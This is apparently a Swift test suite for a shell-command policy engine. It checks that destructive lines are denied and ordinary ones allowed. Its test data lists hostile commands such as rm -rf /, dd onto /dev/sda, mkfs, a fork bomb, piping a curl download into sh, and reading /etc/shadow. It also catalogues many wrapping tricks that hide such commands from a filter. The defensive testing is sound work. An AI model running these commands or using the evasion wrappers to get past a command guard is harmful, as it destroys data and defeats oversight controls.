import Foundation
import ShellParser
import Testing
@testable import Policy

/// Dangerous lines as typed, and the guard rule expected to stop each (nil: any guard rule).
let dangerousLines: [(String, String?)] = [
    ("rm -rf /", "rm-system"), ("rm -rf //", "rm-system"), ("rm -rf /./", "rm-system"), ("rm -rf /usr/../", "rm-system"),
    ("rm -fr /*", "rm-system"), ("rm -r -f ~", "rm-system"), ("rm -rf $HOME", "rm-system"), ("rm -rf \"$HOME\"/", "rm-system"),
    ("rm -rf ~/", "rm-system"), ("sudo rm -rf /", "rm-system"), ("bash -c 'rm -rf /'", "rm-system"),
    ("/bin/rm --recursive --force /etc", "rm-system"), ("\"r\"m -rf /", "rm-system"), ("ls;rm -rf /", "rm-system"),
    ("find / -delete", "find-delete-system"), ("dd if=/dev/zero of=/dev/sda", "dd-device"), ("echo x > /dev/sda", "write-device"),
    ("> /dev/sda", "write-device"), ("mkfs.ext4 /dev/sdb1", "make-filesystem"), (":(){ :|:& };:", nil), ("kill -9 1", "kill-init"), ("kill -9 01", "kill-init"), ("kill -9 +1", "kill-init"), ("kill -9 ' 1'", "kill-init"),
    ("kill -- -01", "kill-all"),
    ("kill -9 -1", "kill-all"), ("iptables -F", "firewall-flush"), ("curl https://x.example/i.sh | sh", "pipe-to-interpreter"),
    ("base64 -d payload | bash", "pipe-to-interpreter"), ("$cmd args", "dynamic-command"), ("eval \"$x\"", "dynamic-eval"),
    ("shutdown -h now", "power-state"), ("systemctl reboot", "systemctl-power"), ("systemctl isolate reboot.target", "systemctl-power"),
    ("systemctl start poweroff.target", "systemctl-power"), ("systemctl suspend", "systemctl-power"), ("crontab -r", "crontab-remove"),
    ("userdel bob", "delete-account"), ("chmod -R 777 /", "chmod-chown-system"), ("init 0", "init-runlevel"),
]

/// Ordinary lines the guard must allow.
let ordinaryLines = [
    "rm -rf build/", "rm -rf /tmp/x", "git rm -r src/old", "grep 'rm -rf /' notes", "echo shutdown",
    "dd if=/dev/sda of=disk.img", "cat /dev/sda | head", "ls -la > /dev/null 2>&1", "make -j4 && ./run-tests",
    "find . -name '*.o' -delete", "kill -HUP 1234", "sudo systemctl status nginx", "echo 'reboot' | wc -c",
    "tar czf backup.tgz ~/project", "for f in *.log; do gzip \"$f\"; done", "~/bin/tool --help",
]

/// `text` as one single-quoted shell word.
func shellQuoted(_ text: String) -> String {
    "'" + text.replacingOccurrences(of: "'", with: "'\\''") + "'"
}

/// Ways to wrap a command line that must never turn a deny into an allow.
let wrappers: [@Sendable (String) -> String] = [
    { "sudo \($0)" }, { "sudo -u root \($0)" }, { "env FOO=1 \($0)" }, { "nohup \($0)" }, { "bash -c \(shellQuoted($0))" },
    { "sh -c \(shellQuoted($0))" }, { "( \($0) )" }, { "{ \($0); }" }, { "x; \($0)" }, { "true && \($0)" }, { "false || \($0)" },
    { "\($0) &" }, { "time \($0)" }, { "nice -n 5 \($0)" }, { "timeout 5 \($0)" }, { "if true; then \($0); fi" },
    { "echo $(\($0))" }, { "for i in 1; do \($0); done" }, { "echo hi | \($0)" },
    { "trap \(shellQuoted($0)) EXIT" }, { "complete -C \(shellQuoted($0)) x" },
    // Process, scheduling, namespace, privilege and tracing wrappers.
    { "setsid -f \($0)" }, { "taskset -c 0 \($0)" }, { "chrt -f 10 \($0)" }, { "flock -w 5 /tmp/l \($0)" },
    { "flock /tmp/l -c \(shellQuoted($0))" }, { "unshare -r \($0)" }, { "nsenter -t 1 -m \($0)" }, { "prlimit -n1024 \($0)" },
    { "setpriv --reuid 0 \($0)" }, { "strace -f -o /tmp/o \($0)" }, { "valgrind -q \($0)" }, { "perf stat -e cycles \($0)" },
    { "runuser -u root -- \($0)" }, { "runuser root -c \(shellQuoted($0))" }, { "sg wheel -c \(shellQuoted($0))" },
    { "fakeroot -- \($0)" }, { "pkexec \($0)" }, { "script -qc \(shellQuoted($0)) /dev/null" },
    { "capsh -- -c \(shellQuoted($0))" }, { "env --block-signal \($0)" }, { "systemd-run --scope -p X=1 \($0)" },
    { "screen -dmS s \($0)" }, { "tmux new -d \(shellQuoted($0))" }, { "stdbuf -oL \($0)" }, { "ionice -c 3 \($0)" },
    // Tools that run shell text of their own: awk's system(), sed's e, tar's --to-command,
    // git's `!` alias, gdb's shell.
    { "awk " + shellQuoted("BEGIN{system(\"" + $0.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\")}") },
    { "sed -n " + shellQuoted("1e " + $0) + " f" }, { "tar -cf /dev/null --to-command=\(shellQuoted($0)) d" },
    { "git -c alias.x=\(shellQuoted("!" + $0)) x" }, { "gdb -batch -ex \(shellQuoted("shell " + $0))" },
    // A here-document given to a shell, directly or through cat.
    { "bash <<'EOF'\n\($0)\nEOF" }, { "cat <<'EOF' | sudo sh\n\($0)\nEOF" }, { ". /dev/stdin <<EOF\n\($0)\nEOF" },
]

@Suite(.enabled(if: parserWorks, "needs the shell parser")) struct LineDecisionTests {
    /// Each dangerous line, parsed for real, is denied by the destructive guard.
    @Test(arguments: dangerousLines)
    func deniesDangerousLines(_ line: String, _ rule: String?) {
        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
        #expect(decision.verdict == .deny, "\(line): \(decision.message)")
        if let rule { #expect(decision.ruleID == "destructive/\(rule)", "\(line): \(decision.ruleID ?? "-")") }
    }

    /// Where an assignment may stand, bash reads `NAME[` to its `]`, blanks, `;`, newlines and `#`
    /// included, and runs what the subscript and the value hold: nothing there hides a command.
    @Test(arguments: [
        ("x[ #]=$(rm -rf /)", "rm-system"), ("a=1 x[ # ]=`mkfs.ext4 /dev/sdb1`", "make-filesystem"),
        ("x[ ;\n]=$(kill -9 1)", "kill-init"), ("x[ $(iptables -F) ]=1", "firewall-flush"),
        ("if x[ #]=$(crontab -r); then :; fi", "crontab-remove"),
    ])
    func deniesCommandsBehindASubscript(_ line: String, _ rule: String) {
        Self.expectDenied(line, by: rule)
    }

    /// Code that bash runs later is decided now: a trap's action (at EXIT, on a signal, before
    /// each command), a completion's command and the word list it expands at the next Tab, a
    /// mapfile callback; code taken from history at run time (`fc`) is refused as unseen.
    @Test(arguments: [
        ("trap 'rm -rf /' EXIT", "rm-system"), ("trap -- 'mkfs.ext4 /dev/sdb1' INT TERM", "make-filesystem"),
        ("complete -C 'rm -rf /' x", "rm-system"), ("compgen -W '$(kill -9 1)' a", "kill-init"),
        ("PS1='$(rm -rf /) $ '", "rm-system"), ("PS1='\\044(mkfs.ext4 /dev/sdb1)'", "make-filesystem"),
        ("PROMPT_COMMAND='kill -9 1'", "kill-init"), ("mapfile -C 'rm -rf /' -c 1 a < f", "rm-system"),
        // fc runs a history entry (`history -s 'rm -rf /'` puts one there): text known only then.
        ("fc -s", "dynamic-eval"), ("fc -s 'echo '=", "dynamic-eval"), ("fc -e vi", "dynamic-eval"),
        // A prompt string set through a builtin: its value is not read here.
        ("printf -v PS1 '%s' '$(kill -9 1)'", "dynamic-eval"), ("read PROMPT_COMMAND <<< 'rm -rf /'", "dynamic-eval"),
        // (Unread values stand as a command named by the variable: known only at run time.)
        ("for PS1 in '$(rm -rf /)'; do :; done", "dynamic-command"), (": \"${PS1:='$(rm -rf /)'}\"", "dynamic-command"),
        ("x='$(rm -rf /)'; : \"${x@P}\"", "dynamic-command"),
        // A substitution in a quoted subscript, run when the text is evaluated as arithmetic.
        ("x='a[$(rm -rf /)]'", "rm-system"), ("printf -v 'a[$(kill -9 1)]' x", "kill-init"),
        // Code given on the line to a shell or `.` through a here-string.
        ("bash <<< 'rm -rf /'", "rm-system"), (". /dev/stdin <<< 'rm -rf /'", "rm-system"),
        ("echo 'rm -rf /' | sh", "rm-system"), ("printf 'mkfs.ext4 /dev/sdb1\\n' | bash", "make-filesystem"),
    ])
    func deniesCodeThatRunsLater(_ line: String, _ rule: String) {
        Self.expectDenied(line, by: rule)
    }

    /// The destructive guard denies `line` with its rule `rule`.
    static func expectDenied(_ line: String, by rule: String) {
        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
        #expect(decision.verdict == .deny && decision.ruleID == "destructive/\(rule)", "\(line): \(decision.ruleID ?? "-")")
    }

    /// Ordinary lines, parsed for real, stay allowed.
    @Test(arguments: ordinaryLines)
    func allowsOrdinaryLines(_ line: String) {
        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
        #expect(decision.verdict == .allow, "\(line): \(decision.ruleID ?? "-") \(decision.message)")
    }

    /// Property: wrapping a denied line once or twice (sudo, env, nohup, sh -c, subshell, lists,
    /// substitutions, loops, pipes) never turns the deny into an allow.
    @Test func wrappingNeverAllows() {
        var checked = 0
        for (base, _) in dangerousLines {
            guard guardEngine.decide(subject: alice, target: web1, line: base).verdict == .deny else { continue }
            for (i, outer) in wrappers.enumerated() {
                let once = outer(base)
                for line in [once] + wrappers.enumerated().filter { $0.offset % 4 == i % 4 }.map({ $0.element(once) }) {
                    let decision = guardEngine.decide(subject: alice, target: web1, line: line)
                    checked += 1
                    #expect(decision.verdict != .allow, "wrapped line allowed: \(line)")
                }
            }
        }
        #expect(checked > 500)
    }

    /// A callback bash runs with words it appends (`compgen -C`, `complete -C` at Tab, `mapfile
    /// -C` with each line) meets a rule on its arguments: `compgen -C touch /x/canary` runs
    /// `touch compgen /x/canary ''`.
    @Test(arguments: ["compgen -C touch /srv/canary", "complete -C touch ls", "mapfile -t -C touch -c 1 a <<< /srv/canary",
                      "complete -C 'env touch' ls"])
    func callbacksMeetArgumentRules(_ line: String) throws {
        let (config, _) = try loadPolicy("""
        roles:
          - name: g
            groups: [engineering]
            targets: ["*"]
            capabilities: [exec]
            mode: guard
            rules:
              - {id: no-canary, action: deny, command: touch, args: ["*canary*", "**/*canary*"], message: no canaries}
        """)
        let decision = PolicyEngine(config: config).decide(subject: alice, target: web1, line: line)
        #expect(decision.verdict == .deny && decision.ruleID == "no-canary", "\(line): \(decision.ruleID ?? "-")")
    }

    /// Strict mode fails closed on what the parser cannot resolve, even when every command name is allowed.
    @Test(arguments: [
        "$cmd args", "eval \"$x\"", "curl x | sh", "python3 -c 'import os'", "bash -c \"$x\"", "$(echo rm) -rf x",
        "cat x | bash", "sh < script.sh", "bash <<< \"$x\"", "`echo ls`", "sudo $cmd",
    ])
    func strictFailsClosed(_ line: String) throws {
        let (config, _) = try loadPolicy("""
        roles:
          - name: s
            groups: [engineering]
            targets: ["*"]
            capabilities: [exec]
            mode: strict
            rules:
              - {id: names, action: allow, command: [cat, ls, echo, curl, sh, bash, python3, eval, sudo, env, rm, which]}
        """)
        let decision = PolicyEngine(config: config).decide(subject: alice, target: web1, line: line)
        #expect(decision.verdict == .deny, "\(line): \(decision.ruleID ?? "-")")
    }

    /// A relative path is also read where the command runs: under a `cd` before it on the line
    /// (or a wrapper's `env -C`, `sudo -D`), and under where the line starts (an exec request's is
    /// the home directory). Only denials gain: an unknown directory leaves the path as written.
    @Test(arguments: [
        ("cd / && rm -rf etc", nil, "rm-system"), ("cd /var; cd lib; rm -rf *", nil, "rm-system"),
        ("cd /etc && chmod -R 777 .", nil, "chmod-chown-system"), ("builtin cd /usr; rm -rf bin", nil, "rm-system"),
        ("env -C / rm -rf etc", nil, "rm-system"), ("sudo -D /home rm -rf bob", nil, "rm-system"),
        ("sh -c 'cd / && rm -rf boot'", nil, "rm-system"), ("cd / && echo x > dev/sda", nil, "write-device"),
        ("rm -rf ..", "~", "rm-system"), ("cd ..; rm -rf bob", "~", "rm-system"), ("rm -rf *", "/", "rm-system"),
        ("rm -rf lib", "/var", "rm-system"), ("cd ../etc && rm -rf .", "/usr", "rm-system"), ("cd; rm -rf .", nil, "rm-system"),
        ("cd /dev && dd if=/dev/zero of=sda", nil, "dd-device"), ("dd if=/dev/zero of=nvme0n1 bs=1M", "/dev", "dd-device"),
        // A decoy cd that does not take effect adds a place, never replaces one.
        ("cd /; (cd /tmp); rm -rf etc", nil, "rm-system"), ("cd /; false && cd /tmp; rm -rf etc", nil, "rm-system"),
        ("eval cd /; rm -rf etc", nil, "rm-system"), ("cd ''; rm -rf ..", "/srv", "rm-system"),
        ("(cd /srv) && rm -rf ..", "/", "rm-system"), ("cd /srv || rm -rf ..", "/usr", "rm-system"),
        ("cd /tmp && rm -rf x; rm -rf ..", "/usr", "rm-system"),
        // The current directory by other names, and paths given inside options.
        ("rm -rf ~+/etc", "/", "rm-system"), ("rm -rf $PWD/lib", "/usr", "rm-system"), ("rm -rf /proc/self/root/etc", nil, "rm-system"),
        ("chmod -R 777 --reference=/x /proc/self/cwd/..", "/etc", "chmod-chown-system"),
        // A home's `..` reaches above it (a home one or two levels deep), and `~NAME` is that
        // account's home.
        ("rm -rf ~/../../etc", nil, "rm-system"), ("rm -rf ~root/../etc", nil, "rm-system"), ("rm -rf ../../etc", "~", "rm-system"),
        ("cd; rm -rf ../../usr", nil, "rm-system"), ("rm -rf ~/x/../../../boot", nil, "rm-system"),
        // Static text xargs reads gives its command's arguments.
        ("echo / | xargs rm -rf", nil, "rm-system"), ("xargs rm -rf <<< /etc", nil, "rm-system"),
        ("sudo echo / | xargs rm -rf", nil, "rm-system"), ("env X=1 printf 'rm -rf /' | sh", nil, "rm-system"),
    ] as [(String, String?, String)])
    func relativePathsAreReadWhereTheCommandRuns(_ line: String, _ directory: String?, _ rule: String) {
        let decision = guardEngine.decide(subject: alice, target: web1, line: line, workingDirectory: directory)
        #expect(decision.verdict == .deny && decision.ruleID == "destructive/\(rule)", "\(line) in \(directory ?? "-"): \(decision.ruleID ?? "-")")
    }

    /// A rule naming a path in the home (`~/…`) holds for the same path written from `/home/NAME`
    /// or `/root`, and a rule on an absolute path for `~NAME/..` and `~/../..` spellings of it:
    /// the target account's home is not known here, so every home is taken as possibly it.
    @Test(arguments: [
        ("touch ~/canary-1", "escalate"), ("touch /home/deploy/canary-2", "escalate"), ("touch /root/canary-3", "escalate"),
        ("touch /home/deploy/../deploy/canary-4", "escalate"), ("touch ~deploy/canary-5", "escalate"),
        ("cat ~root/../etc/shadow", "deny"), ("cat ~/../../etc/shadow", "deny"), ("cat ~/../etc/shadow", "deny"),
        ("touch /rootless/canary-6", "allow"), ("touch ~/other", "allow"), ("cat /etc/hostname", "allow"),
    ])
    func homeSpellingsOfAPathAreReadAlike(_ line: String, _ verdict: String) throws {
        let engine = try guardRoleEngine("""
                rules:
                  - {id: shadow, action: deny, command: cat, args: ["/etc/shadow"], message: no}
                  - {id: canary, action: escalate, command: touch, args: ["~/canary-*"], approvers: [sre], message: ask}
            """)
        let decision = engine.decide(subject: alice, target: web1, line: line, workingDirectory: "~")
        #expect("\(decision.verdict)".hasPrefix(verdict), "\(line): \(decision.verdict) \(decision.ruleID ?? "-")")
    }

    /// A directory a path enters before `..` climbs out of it is read too, for deny and escalate
    /// rules: `mkdir -p` makes it on the way, and a symbolic link there would lead elsewhere.
    /// Allow rules look at the path as written, which still has to match on its own.
    @Test(arguments: [
        ("mkdir -p /srv/forbidden/../y", "deny"), ("mkdir -p /srv/x/forbidden-1/z/../../y", "deny"),
        ("touch /srv/forbidden/./../y", "deny"), ("mkdir -p forbidden/../y", "deny"), ("mkdir -p a/b/../../forbidden/..", "deny"),
        ("cat /var/log/../../etc/shadow", "deny"), ("mkdir -p /srv/ok/../y", "allow"), ("mkdir -p ../y", "allow"),
        ("mkdir -p /srv/x/../forbidden-not/../../y", "deny"),
    ])
    func directoriesAPathClimbsOutOfAreReadToo(_ line: String, _ verdict: String) throws {
        let engine = try guardRoleEngine("""
                rules:
                  - {id: shadow, action: deny, command: cat, args: ["/etc/shadow"], message: no}
                  - {id: canary, action: deny, command: [mkdir, touch], args: ["**/forbidden*"], message: no}
            """)
        let decision = engine.decide(subject: alice, target: web1, line: line, workingDirectory: "/home/alice")
        #expect("\(decision.verdict)".hasPrefix(verdict), "\(line): \(decision.verdict) \(decision.ruleID ?? "-")")
    }

    @Test(arguments: [
        ("cd /tmp && rm -rf build", nil), ("rm -rf build", "~"), ("rm -rf build/*", "/srv/app"), ("cd \"$d\" && rm -rf etc", "/srv"),
        ("cd - && rm -rf lib", "/srv"),
        // What follows `cd X &&` runs only where the cd led.
        ("cd /srv/app && find . -name '*.pyc' -delete", "~"), ("cd /opt/app && rm -rf ../app-old", "~"),
        ("cd /srv/app && make && rm -rf build", "/"),
    ] as [(String, String?)])
    func pathsElsewhereStayAllowed(_ line: String, _ directory: String?) {
        let decision = guardEngine.decide(subject: alice, target: web1, line: line, workingDirectory: directory)
        #expect(decision.verdict == .allow, "\(line) in \(directory ?? "-"): \(decision.ruleID ?? "-")")
    }

    /// A 1 MB line is decided without trouble.
    @Test func hugeLine() {
        let line = "echo " + String(repeating: "x", count: 1_000_000) + " | sh"
        let decision = guardEngine.decide(subject: alice, target: web1, line: line)
        #expect(decision.verdict == .allow || decision.verdict == .deny)
        let bomb = String(repeating: "(){ :|:& };", count: 20_000)
        _ = guardEngine.decide(subject: alice, target: web1, line: bomb)
    }

    /// Parser errors are denied with a clear message; incomplete lines are undecided.
    @Test func errorsAndIncomplete() {
        let error = guardEngine.decide(subject: alice, target: web1, line: "ls )")
        #expect(error.verdict == .deny)
        #expect(error.ruleID == "parse-error")
        for line in ["echo 'open", "ls |", "for x in a; do", "cat <<EOF"] {
            #expect(guardEngine.decide(subject: alice, target: web1, line: line).isIncomplete, "\(line)")
        }
    }
}
